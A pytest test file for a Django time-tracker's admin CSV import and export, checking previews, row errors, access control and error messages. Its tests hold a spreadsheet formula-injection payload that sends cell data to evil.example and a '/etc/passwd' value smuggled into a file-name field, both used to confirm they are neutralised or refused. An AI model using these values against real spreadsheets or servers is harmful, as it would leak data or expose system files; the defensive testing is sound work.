"""The TimeEntry admin's import (preview, confirm) and export use the same resource/service."""

import re

from django.core.files.uploadedfile import SimpleUploadedFile

from conftest import CASES_DIR
from imports.models import DataImport
from timetracker.models import TimeEntry

IMPORT_URL = "/admin/timetracker/timeentry/import/"
PROCESS_URL = "/admin/timetracker/timeentry/process_import/"
EXPORT_URL = "/admin/timetracker/timeentry/export/"


def upload(client, path, **extra):
    data = {"format": "0", "import_file": SimpleUploadedFile(path.name, path.read_bytes()), "resource": "0", **extra}
    return client.post(IMPORT_URL, data)


def confirm_fields(html: str) -> dict:
    fields = dict(re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)"', html))
    fields.pop("csrfmiddlewaretoken", None)
    return fields


def test_admin_import_previews_then_imports_through_the_service(charlie_client, charlie):
    response = upload(charlie_client, CASES_DIR / "04_twelve_hour_am_pm_times.csv", timezone="America/New_York")
    html = response.content.decode()
    assert response.status_code == 200
    assert "Confirm import" in html and "Lunch-time call" in html and "2024-01-15T16:50:00+00:00" in html
    assert TimeEntry.objects.count() == 0

    confirmed = charlie_client.post(PROCESS_URL, confirm_fields(html))
    assert confirmed.status_code == 302
    data_import = DataImport.objects.get()
    assert (data_import.owner, data_import.status, data_import.created_records) == (charlie, "completed", 4)
    assert data_import.options["timezone"] == "America/New_York"
    assert data_import.source_file_name == "04_twelve_hour_am_pm_times.csv"
    assert list(TimeEntry.objects.order_by("start").values_list("notes", flat=True)) == [
        "Night deploy", "Lunch-time call", "Late fix", "Standup",
    ]


def test_admin_preview_labels_each_row_as_the_import_will_treat_it(charlie_client, charlie):
    from imports.tests.factories import import_file

    header = "project_name,start_time,end_time,notes\n"
    import_file(charlie, (header + "Web,2024-03-04 09:00:00,2024-03-04 10:00:00,Standup\n").encode(), timezone="UTC")
    again = header + "Web,2024-03-04 09:00:00,2024-03-04 10:00:00,Standup\nWeb,2024-03-05 09:00:00,2024-03-05 10:00:00,Review\n"
    response = charlie_client.post(IMPORT_URL, {
        "format": "0", "resource": "0", "timezone": "UTC",
        "import_file": SimpleUploadedFile("again.csv", again.encode()),
    })
    html = response.content.decode()

    rows = re.findall(r'<tr class="(\w+)">\s*<td class="import-type">\s*(\w+)\s*</td>(.*?)</tr>', html, re.DOTALL)
    assert [(css, label, "Standup" in cells) for css, label, cells in rows] == [("skip", "Skipped", True), ("new", "New", False)]

    confirmed = charlie_client.post(PROCESS_URL, confirm_fields(html))
    assert confirmed.status_code == 302
    data_import = DataImport.objects.latest("pk")
    assert (data_import.created_records, data_import.updated_records, data_import.unchanged_records) == (1, 0, 1)


def test_admin_import_shows_row_errors_and_offers_no_confirmation(charlie_client):
    response = upload(charlie_client, CASES_DIR / "07_entry_crossing_midnight.csv", timezone="Europe/Berlin")
    html = response.content.decode()
    assert "Confirm import" not in html
    assert 'line 3, value &quot;01:00:00&quot;: End (2020-07-03 01:00) is before start (2020-07-03 23:30)' in html
    assert TimeEntry.objects.count() == 0


def test_admin_import_explains_an_unreadable_file(charlie_client):
    response = charlie_client.post(
        IMPORT_URL, {"format": "0", "resource": "0", "import_file": SimpleUploadedFile("x.csv", b"name,color\nWeb,red\n")}
    )
    assert "No known header row found" in response.content.decode()


def test_admin_export_writes_our_layout_with_formulas_neutralised(charlie_client, charlie):
    from imports.tests.factories import import_file

    import_file(charlie, CASES_DIR / "13_csv_formula_injection_export.csv", timezone="UTC")
    response = charlie_client.post(EXPORT_URL, {"format": "0", "resource": "0", **{f"timeentryresource_{c}": "on" for c in
                                   ["id", "user_email", "project_name", "client_name", "task_name", "start_time", "end_time",
                                    "duration_hours", "notes", "tags", "billable"]}})
    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbfid,user_email,")
    lines = response.content.decode("utf-8-sig").splitlines()
    assert lines[0] == "id,user_email,project_name,client_name,task_name,start_time,end_time,duration_hours,notes,tags,billable"
    body = "\n".join(lines[1:])
    assert ",'+SUM(1+1),Acme,,2024-03-04T09:30:00+00:00,2024-03-04T09:45:00+00:00,0.25,Meeting,'@admin,true" in body
    assert """,Website,Acme,,2024-03-04T08:00:00+00:00,2024-03-04T09:30:00+00:00,1.50,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Click for invoice"")",ok,true""" in body


def test_non_staff_cannot_reach_the_admin_import(alice_client):
    assert alice_client.get(IMPORT_URL).status_code == 302


def test_admin_export_reimports_into_the_same_account_unchanged(charlie_client, charlie):
    from imports.tests.factories import import_file

    import_file(charlie, CASES_DIR / "21_reimport_own_export_unchanged.csv", timezone="Europe/Berlin")
    response = charlie_client.post(EXPORT_URL, {"format": "0", "resource": "0", **{f"timeentryresource_{c}": "on" for c in
                                   ["id", "user_email", "project_name", "client_name", "task_name", "start_time", "end_time",
                                    "duration_hours", "notes", "tags", "billable"]}})
    assert ".837623+00:00" in response.content.decode("utf-8-sig")
    again = import_file(charlie, response.content)
    assert (again.created_records, again.updated_records, again.unchanged_records) == (0, 0, 2)


def test_admin_import_explains_a_file_that_is_not_csv_without_a_traceback(charlie_client):
    response = charlie_client.post(IMPORT_URL, {"format": "0", "resource": "0",
                                                "import_file": SimpleUploadedFile("x.csv", bytes(range(256)) * 4)})
    html = response.content.decode()
    assert "The file is not a CSV text file (it contains binary data)." in html
    assert "Traceback" not in html and "imports/admin.py" not in html


def test_admin_import_explains_an_unknown_timezone_without_a_traceback(charlie_client):
    response = upload(charlie_client, CASES_DIR / "04_twelve_hour_am_pm_times.csv", timezone="Mars/Base")
    html = response.content.decode()
    assert "Unknown timezone &quot;Mars/Base&quot;; use an IANA name such as Europe/Berlin." in html
    assert "Traceback" not in html and "imports/admin.py" not in html
    assert TimeEntry.objects.count() == 0


def test_admin_confirming_twice_or_an_edited_file_name_says_upload_again_never_500(charlie_client):
    html = upload(charlie_client, CASES_DIR / "04_twelve_hour_am_pm_times.csv").content.decode()
    fields = confirm_fields(html)
    first = charlie_client.post(PROCESS_URL, fields, follow=True)
    assert [str(m) for m in first.context["messages"]] == [
        f"Import #{DataImport.objects.get().pk} Completed: Imported: 4 created, 0 updated, 0 unchanged."
    ]

    again = charlie_client.post(PROCESS_URL, fields, follow=True)
    assert again.redirect_chain == [(IMPORT_URL, 302)]
    assert [str(m) for m in again.context["messages"]] == [
        "This import was already confirmed or its upload has expired; upload the file again."
    ]
    edited = charlie_client.post(PROCESS_URL, {**fields, "import_file_name": "/etc/passwd"}, follow=True)
    assert edited.redirect_chain == [(IMPORT_URL, 302)]
    assert [str(m) for m in edited.context["messages"]] == [
        "This import was already confirmed or its upload has expired; upload the file again."
    ]
    assert (DataImport.objects.count(), TimeEntry.objects.count()) == (1, 4)
